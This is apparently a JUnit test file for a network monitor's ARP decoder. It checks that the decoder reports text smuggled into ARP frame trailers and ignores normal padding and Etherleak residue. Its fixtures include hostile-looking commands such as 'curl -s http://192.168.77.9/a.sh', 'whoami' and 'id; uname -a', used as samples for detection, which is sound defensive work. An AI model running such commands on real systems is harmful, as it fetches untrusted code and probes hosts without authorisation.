package io.farmhawk.protocol.arp;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import io.farmhawk.observation.Observation.AddressClaim;
import io.farmhawk.observation.Observation.ArpPayload;
import io.farmhawk.protocol.DecoderRun;
import io.farmhawk.protocol.WireHex;
import java.io.ByteArrayOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ArpTrailerTest {
    private static final String REQUEST = """
            ffffffffffff dca632010203 0806
            0001 0800 06 04 0001 dca632010203 c0a84d15 000000000000 c0a84d01
            """;

    private final DecoderRun run = new DecoderRun(new ArpDecoder(1));

    @ParameterizedTest
    @CsvSource(delimiter = '|',
            textBlock = """
                    in padding, zeros behind it           | whoami            | 000000000000000000000000 | 6
                    a frame that its sender did not pad   | ls -l /tmp        | ''                       | 10
                    longer than padding                   | curl -s http://192.168.77.9/a.sh | ''        | 32
                    longer, with a check sequence         | curl -s http://192.168.77.9/a.sh | 8f1d0ac3  | 32
                    in padding, with a check sequence     | whoami            | 0000000000000000000000008f1d0ac3 | 6
                    """)
    void tellsTextThatSomebodyPutBehindAPacket(String what, String text, String behind,
            int length) {
        run.frame(frame(text, behind));

        assertThat(run.told(ArpPayload.class)).as(what).singleElement().satisfies(payload -> {
            assertThat(payload.mac().toString()).isEqualTo("dc:a6:32:01:02:03");
            assertThat(payload.lengthOctets()).isEqualTo(length);
            assertThat(payload.text()).isEqualTo(text);
        });
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|',
            textBlock = """
                    nothing                                | '' | ''
                    padding                                | '' | 000000000000000000000000000000000000
                    padding and a check sequence           | '' | 0000000000000000000000000000000000008f1d0ac3
                    what a card left there (CVE-2003-0001) | '' | 000600000000000070000000000000f40000
                    text that a card left there            | GET /index.html HT | ''
                    the same with a check sequence         | GET /index.html HT | 8f1d0ac3
                    the same in a tagged frame             | GET /index.htm | 8f1d0ac3
                    blanks, as some stacks pad             | '' | 000000000000000000000000000020202020
                    too little to be no chance             | abcde | 00000000000000000000000000
                    text in other octets                   | whoami | 01000000000000000000000a
                    a long frame of other octets           | '' | 0f225486b2972100ec456ec8b280ecf8ca4cad2d0adf14700000000000000adffe38000000000000
                    """)
    void takesNothingElseForAMessage(String what, String text, String behind) {
        run.frame(frame(text, behind));

        assertThat(run.told()).as(what).singleElement().isInstanceOf(AddressClaim.class);
    }

    @Test
    void keepsABoundedBeginning() {
        run.frame(frame("x".repeat(1_000), ""));

        assertThat(run.told(ArpPayload.class)).singleElement().satisfies(payload -> {
            assertThat(payload.lengthOctets()).isEqualTo(1_000);
            assertThat(payload.text()).hasSize(64);
        });
    }

    @Test
    void tellsWhatAnOperationThatWeDoNotReadCarries() {
        byte[] frame = frame("id; uname -a", "");
        frame[21] = 9; // operation: InARP reply

        run.frame(frame);

        assertThat(run.told()).singleElement().isInstanceOf(ArpPayload.class);
    }

    @Test
    void neverThrowsOnNoise() {
        run.noise(14, frame("id; uname -a", ""), frame("whoami", "000000000000000000000000"));
    }

    private static byte[] frame(String text, String behind) {
        ByteArrayOutputStream frame = new ByteArrayOutputStream();
        frame.writeBytes(WireHex.octets(REQUEST));
        frame.writeBytes(text.getBytes(ISO_8859_1));
        frame.writeBytes(WireHex.octets(behind));
        return frame.toByteArray();
    }
}
